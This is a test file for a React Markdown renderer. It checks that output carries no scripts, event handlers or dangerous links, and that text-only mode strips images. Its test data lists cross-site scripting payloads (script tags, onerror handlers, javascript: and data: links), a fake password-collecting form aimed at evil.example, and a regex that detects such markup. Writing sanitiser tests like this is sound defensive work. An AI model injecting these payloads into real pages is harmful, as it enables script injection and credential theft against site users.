import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { AppProvider } from '../app-provider.tsx';
import { Markdown } from './markdown.tsx';

function render(text: string, isTextOnly: boolean): string {
  return renderToStaticMarkup(
    <AppProvider>
      <Markdown isTextOnly={isTextOnly}>{text}</Markdown>
    </AppProvider>,
  );
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '<svg onload=alert(1)><iframe src="javascript:alert(1)"></iframe>',
  '[tap](javascript:alert(1))',
  '[tap](JaVaScRiPt:alert(1))',
  '[tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[tap](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '<a href="javascript:alert(1)" onclick="alert(1)">tap</a>',
  '<style>body{display:none}</style><form action="https://evil.example"><input name="password"></form>',
];

describe('Markdown', () => {
  it.each(attacks)('leaves no script, handler or dangerous address of %s', (attack) => {
    for (const isTextOnly of [true, false]) {
      const html = render(attack, isTextOnly);
      expect(html).not.toMatch(
        /<(?:script|iframe|svg|form|input)\b|<[^>]+\son\w+=|(?:href|src)="(?:\w+script|data):/iu,
      );
    }
  });

  it('leaves pictures out of what users write, and nothing else', () => {
    const text = 'See **this** ![pixel](https://tracker.example/pixel.png) and [that](https://grow.example)';
    expect(render(text, false)).toContain('<img');
    const html = render(text, true);
    expect(html).not.toContain('<img');
    expect(html).not.toContain('tracker.example');
    expect(html).toContain('<strong>this</strong>');
    expect(html).toMatch(/<a href="https:\/\/grow\.example" target="_blank" rel="noopener noreferrer nofollow">/u);
  });
});
